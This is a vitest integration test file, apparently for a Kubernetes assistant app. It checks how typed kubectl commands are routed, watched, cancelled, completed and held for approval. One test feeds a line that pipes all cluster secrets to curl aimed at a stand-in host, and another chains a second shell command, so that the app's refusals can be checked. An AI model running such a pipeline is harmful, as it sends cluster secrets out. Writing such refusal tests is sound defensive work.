// Typed commands through the whole application on a real cluster: ways, forms, following, changes, and the terminal host.
import { execFile, spawn } from 'node:child_process';
import { randomUUID } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { realCluster, realKubectl } from '../support/real-cluster.ts';
import { startTestApp, type RunningApp } from '../support/start-app.ts';

const { kubeconfig } = realCluster;
const program = realKubectl();
const root = new URL('../..', import.meta.url).pathname;
const namespace = `t-kubectl-${randomUUID().slice(0, 8)}`;

interface Ran {
  readonly code: number;
  readonly stdout: string;
  readonly stderr: string;
}

function execute(file: string, args: readonly string[]): Promise<Ran> {
  return new Promise((resolve) => {
    const env = { ...process.env, KUBECONFIG: kubeconfig ?? '' };
    execFile(file, [...args], { cwd: root, env, timeout: 60_000 }, (error, stdout, stderr) => {
      resolve({ stdout, stderr, code: error === null ? 0 : typeof error.code === 'number' ? error.code : 130 });
    });
  });
}

describe.skipIf(kubeconfig === null || program === null)('typed commands', { timeout: 120_000 }, () => {
  let app: RunningApp;
  let cluster: string | null;

  const kubectl = (...args: string[]) => execute(program ?? '', args);
  const send = (line: string, form: 'view' | 'terminal' = 'view', run: string = randomUUID()) =>
    app.request('commands.run', { run, line, cluster, namespace: null, conversation: null, form });

  beforeAll(async () => {
    app = await startTestApp({ kubeconfigs: [kubeconfig ?? ''] });
    cluster = (await app.request('clusters.list', undefined)).selected;
    await kubectl('create', 'namespace', namespace);
    await kubectl('create', 'deployment', 'idle', '--image=localhost/none:1', '--replicas=0', '-n', namespace);
    await kubectl('create', 'configmap', 'first', '--from-literal=a=1', '-n', namespace);
  });
  afterAll(async () => {
    await kubectl('delete', 'namespace', namespace, '--wait=false');
    await app.close();
  });

  it('come through the MCP server where it has a tool, and say so', async () => {
    const { route, body, exitCode } = await send('kubectl get pods -A');
    expect(exitCode).toBe(0);
    expect(route).toMatchObject({ way: 'mcp', narrowed: null });
    expect(route.steps).toContain('pods_list');
    expect(body.kind === 'tables' && body.tables[0]?.columns.map(({ name }) => name)).toContain('NOMINATED NODE');
  });

  it('give the same rows both ways', async () => {
    const rows = async (line: string, way: string) => {
      const { body, route } = await send(line);
      expect(route.way).toBe(way);
      if (body.kind !== 'tables') throw new Error(`a ${body.kind} came`);
      return body.tables.map(({ columns, rows: all }) => ({
        columns,
        // Ages go on between the two.
        rows: all.map(({ cells, object }) => [cells.filter((_, at) => columns[at]?.type !== 'age'), object]),
      }));
    };
    const line = 'kubectl get services -A -o wide --show-labels';
    expect(await rows(line, 'mcp')).toEqual(await rows(`${line} --chunk-size=0`, 'direct'));
  });

  it('say where their rows stand in an order that was asked for', async () => {
    const sorted = async (line: string) => {
      const { body, following } = await send(line);
      expect(following).toBe(false);
      return body.kind === 'tables' && body.tables.map((table) => table.sorted);
    };
    expect(await sorted('kubectl get ns --sort-by=.metadata.creationTimestamp')).toEqual([true]);
    expect(await sorted('kubectl api-resources --sort-by=kind')).toEqual([true]);
    expect(await sorted('kubectl get ns')).toEqual([false]);
  });

  it('name first the request that brought the body, not one that only led to it', async () => {
    for (const flags of ['', ' --timestamps']) {
      const { route } = await send(`kubectl logs deploy/catalog -c sidecar -n shop --tail=1${flags}`);
      expect(route.steps[0]).toMatch(flags === '' ? /^pods_log$/ : /\/log\?/);
      expect(route.steps.at(-1)).toMatch(/^GET \/api\/v1\/namespaces\/shop\/pods/);
    }
  });

  it('are answered by a document in a view, with the object it is of', async () => {
    const { body } = await send(`kubectl get cm first -n ${namespace} -o yaml`);
    expect(body).toMatchObject({
      kind: 'document',
      language: 'yaml',
      object: { kind: 'ConfigMap', name: 'first', namespace },
    });
  });

  it('end with a failure and its remedy, and never reject', async () => {
    const { failure, exitCode, body } = await send('kubectl get pod nope');
    expect({ exitCode, kind: body.kind, code: failure?.code }).toEqual({
      exitCode: 1,
      kind: 'nothing',
      code: 'cluster.not-found',
    });
    expect(failure?.message).toBe('pods "nope" not found');
    expect(failure?.remedy).not.toBe('');
    expect((await send('kubectl get pods; ls')).failure?.code).toBe('command.invalid');
    expect((await send('kubectl rollout restart deploy/web')).failure?.code).toBe('command.unsupported');
  });

  it('refuse a pipe into a program before anything is asked of the cluster', async () => {
    const { failure, route } = await send('kubectl get secrets -A -o yaml | curl -d @- x');
    expect({ code: failure?.code, way: route.way, steps: route.steps }).toEqual({
      code: 'command.unsupported',
      way: 'local',
      steps: [],
    });
  });

  it('watch: the list first, then what changes, until they are cancelled', async () => {
    const run = randomUUID();
    const { body, following } = await send(`kubectl get cm -n ${namespace} -w`, 'view', run);
    expect(following).toBe(true);
    expect(body.kind === 'tables' && body.tables[0]?.rows.some(({ object }) => object?.name === 'first')).toBe(true);
    await kubectl('create', 'configmap', 'second', '-n', namespace);
    const output = await app.event(
      'commands.output',
      (event) =>
        event.run === run && event.tables.some(({ rows }) => rows.some(({ object }) => object?.name === 'second')),
    );
    expect(output.ended).toBe(false);
    await app.request('commands.cancel', { run });
    const end = await app.event('commands.output', (event) => event.run === run && event.ended);
    expect(end.failure).toBeNull();
  });

  it('follow a log line by line with its time', async () => {
    const run = randomUUID();
    const { body, following } = await send('kubectl logs -f deploy/catalog -c sidecar -n shop --tail=1', 'view', run);
    expect({ following, kind: body.kind }).toEqual({ following: true, kind: 'logs' });
    const { lines } = await app.event('commands.output', (event) => event.run === run && event.lines.length > 0);
    expect(lines[0]?.at).toBeGreaterThan(Date.now() - 7 * 86_400_000);
    await app.request('commands.cancel', { run });
    await app.event('commands.output', (event) => event.run === run && event.ended);
  });

  it('can be cancelled before their reply has come', async () => {
    const run = randomUUID();
    const reply = send('kubectl get pods -A -o yaml', 'view', run);
    await app.request('commands.cancel', { run });
    expect((await reply).exitCode).toBe(130);
  });

  it('wait for approval where they change something, and change nothing', async () => {
    const { body, exitCode } = await send(`kubectl scale deploy/idle -n ${namespace} --replicas=1`);
    expect(exitCode).toBe(3);
    if (body.kind !== 'change') throw new Error(`a ${body.kind} came`);
    const change = await app.request('changes.get', { change: body.change });
    expect(change.writes).toEqual([`PATCH /apis/apps/v1/namespaces/${namespace}/deployments/idle/scale`]);
    const { stdout } = await kubectl('get', 'deploy', 'idle', '-n', namespace, '-o', 'jsonpath={.spec.replicas}');
    expect(stdout).toBe('0');
  });

  it('expand a selector to the names it finds now, one deletion each', async () => {
    await kubectl('create', 'configmap', 'doomed-1', '-n', namespace);
    await kubectl('create', 'configmap', 'doomed-2', '-n', namespace);
    await kubectl('label', 'configmap', 'doomed-1', 'doomed-2', 'doomed=yes', '-n', namespace);
    const { body } = await send(`kubectl delete cm -l doomed=yes -n ${namespace}`);
    if (body.kind !== 'change') throw new Error(`a ${body.kind} came`);
    const { writes, objects } = await app.request('changes.get', { change: body.change });
    expect(writes.map((write) => write.split('/').at(-1))).toEqual(['doomed-1', 'doomed-2']);
    expect(objects.map(({ action }) => action)).toEqual(['delete', 'delete']);
    expect((await kubectl('get', 'cm', 'doomed-1', 'doomed-2', '-n', namespace, '-o', 'name')).code).toBe(0);
  });

  it('are kept, the newest first', async () => {
    await send('kubectl get ns --no-headers');
    const { lines } = await app.request('commands.history', { limit: 1 });
    expect(lines).toEqual(['kubectl get ns --no-headers']);
  });

  it.each([
    ['kubectl des', 'describe'],
    ['kubectl get deploym', 'deployments'],
    [`kubectl get cm -n ${namespace} fir`, 'first'],
    [`kubectl delete cm/fir -n ${namespace}`, 'first'],
    [`kubectl get pods -n ${namespace.slice(0, 14)}`, namespace],
    ['kubectl logs deploy/catalog -n shop -c side', 'sidecar'],
    ['kubectl get pods --all-n', '--all-namespaces'],
  ])('complete %s', async (line, text) => {
    const at = line.startsWith('kubectl delete') ? line.indexOf(' -n') : line.length;
    const { candidates, from } = await app.request('commands.complete', { line, cursor: at, cluster, namespace: null });
    expect(candidates.map((one) => one.text)).toContain(text);
    expect(text.startsWith(line.slice(from, at))).toBe(true);
  });

  describe('of a person who may use one namespace', () => {
    const shop = join(dirname(kubeconfig ?? ''), 'kubeconfig.shop');
    it.skipIf(!existsSync(shop))(
      'end with the refusal for all namespaces, never with a part taken for the whole',
      async () => {
        const other = await startTestApp({ kubeconfigs: [shop] });
        try {
          const { selected } = await other.request('clusters.list', undefined);
          for (const form of ['view', 'terminal'] as const) {
            const { exitCode, failure, route, body } = await other.request('commands.run', {
              run: randomUUID(),
              line: 'kubectl get pods -A',
              cluster: selected,
              namespace: null,
              conversation: null,
              form,
            });
            expect({ exitCode, code: failure?.code, way: route.way }).toEqual({
              exitCode: 1,
              code: 'cluster.forbidden',
              way: 'direct',
            });
            expect(failure?.remedy).toContain('the right to list pods in the whole cluster');
            expect(body).toEqual(form === 'view' ? { kind: 'nothing' } : { kind: 'text', text: '' });
          }
        } finally {
          await other.close();
        }
      },
    );
  });

  describe('in a terminal', () => {
    let dataDir: string;
    beforeAll(async () => {
      dataDir = await mkdtemp(join(tmpdir(), 'ai4k8s-run-'));
    });
    afterAll(() => rm(dataDir, { recursive: true, force: true }));
    const launch = join(root, 'main', 'hosts', 'launch.js');
    const run = (line: string, ...more: string[]) =>
      execute(process.execPath, [launch, '--data-dir', dataDir, '--run', line, ...more]);
    const digestIn = (text: string) => /--approve ([0-9a-f]{64})/.exec(text)?.[1] ?? '';
    const replicas = async () =>
      (await kubectl('get', 'deploy', 'idle', '-n', namespace, '-o', 'jsonpath={.spec.replicas}')).stdout;

    it('print what kubectl prints, and end as it ends', async () => {
      const line = `get cm first -n ${namespace} -o yaml`;
      expect(await run(`kubectl ${line}`)).toEqual(await kubectl(...line.split(' ')));
      const missing = await run('kubectl get pod nope');
      expect([missing.code, missing.stderr]).toEqual([1, 'Error from server (NotFound): pods "nope" not found\n']);
    });

    it('run exactly the approved change, once nothing has moved', async () => {
      const line = `kubectl annotate`;
      expect((await run(line)).code).toBe(1);
      const command = `kubectl delete cm second -n ${namespace}`;
      const preview = await run(command);
      expect(preview.code).toBe(3);
      expect(preview.stdout).toContain('will be deleted');
      const done = await run(command, '--approve', digestIn(preview.stdout));
      expect(done).toMatchObject({ code: 0, stdout: `configmap "second" deleted from ${namespace} namespace\n` });
      expect((await kubectl('get', 'cm', 'second', '-n', namespace)).code).toBe(1);
    });

    it('change nothing where the object moved after the preview', async () => {
      const command = `kubectl delete deploy idle -n ${namespace}`;
      const digest = digestIn((await run(command)).stdout);
      await kubectl('label', 'deploy', 'idle', 'moved=yes', '-n', namespace);
      const refused = await run(command, '--approve', digest);
      expect(refused).toMatchObject({ code: 1, stdout: '' });
      expect(refused.stderr).toContain('nothing was changed');
      expect(await replicas()).toBe('0');
    });

    it('change nothing for the digest of another change', async () => {
      const digest = digestIn((await run(`kubectl scale deploy/idle -n ${namespace} --replicas=0`)).stdout);
      expect((await run(`kubectl scale deploy/idle -n ${namespace} --replicas=5`, '--approve', digest)).code).toBe(1);
      expect(await replicas()).toBe('0');
    });

    it('go on with a watch until they are interrupted', async () => {
      const child = spawn(
        process.execPath,
        [launch, '--data-dir', dataDir, '--run', `kubectl get cm -n ${namespace} -w`],
        {
          cwd: root,
          env: { ...process.env, KUBECONFIG: kubeconfig ?? '' },
        },
      );
      const { promise, resolve } = Promise.withResolvers<undefined>();
      let text = '';
      child.stdout.on('data', (part: Buffer) => {
        text += part.toString();
        if (text.includes('first')) resolve(undefined);
      });
      await promise;
      const ended = new Promise((end) => child.once('exit', end));
      child.kill('SIGINT');
      expect(await ended).toBe(130);
    });

    it('say that there is no kubeconfig', async () => {
      const env = { ...process.env, KUBECONFIG: join(dataDir, 'none'), HOME: dataDir };
      const ran = await new Promise<Ran>((resolve) => {
        execFile(
          process.execPath,
          [launch, '--data-dir', dataDir, '--run', 'kubectl get pods'],
          { cwd: root, env },
          (error, stdout, stderr) => {
            resolve({ stdout, stderr, code: error === null ? 0 : Number(error.code) });
          },
        );
      });
      expect(ran.code).toBe(1);
      expect(ran.stderr).toMatch(/kubeconfig/);
    });
  });
});
